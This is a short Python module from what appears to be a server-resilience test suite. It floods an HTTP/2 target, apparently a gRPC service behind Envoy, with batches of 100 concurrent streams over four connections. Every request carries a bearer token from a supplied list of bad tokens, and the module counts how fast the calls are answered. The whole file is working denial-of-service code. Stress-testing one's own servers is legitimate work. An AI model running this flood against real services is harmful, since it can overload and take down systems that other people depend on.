"""Callers whose tokens do not count."""

import contextlib
import time

import hpack
from hyperframe.frame import DataFrame, HeadersFrame

from attacks.hostile import GET_SITE, HOLD_SECONDS, message, on_connections
from attacks.http2 import StubbornConnection

CALLS_AT_ONCE = 100  # Of a connection; Envoy takes 128.
GET_SITE_1 = message(b"\x08\x01")


def block(target, token):
    """The headers of a call, which neither use nor change what a connection remembers of others."""
    headers = target.headers(GET_SITE)
    if token:
        headers.append(("authorization", f"Bearer {token}"))
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*header) for header in headers])


def bad_tokens(target, scale=1, *, tokens):
    """Calls with these in turn, as fast as they are answered."""
    blocks = [block(target, token) for token in tokens]

    def call(stream):
        headers = blocks[stream // 2 % len(blocks)]
        return (
            HeadersFrame(stream, headers, flags=["END_HEADERS"]),
            DataFrame(stream, GET_SITE_1, flags=["END_STREAM"]),
        )

    def attack(seen):
        limit = time.monotonic() + HOLD_SECONDS * scale
        with contextlib.closing(StubbornConnection(target, seen=seen)) as connection:
            first = 1
            while time.monotonic() < limit:
                streams = range(first, first + 2 * CALLS_AT_ONCE, 2)
                connection.send(*(frame for stream in streams for frame in call(stream)))
                connection.until_gone(set(streams), seconds=30)
                seen["calls"] += CALLS_AT_ONCE
                first += 2 * CALLS_AT_ONCE

    return on_connections(4, attack)
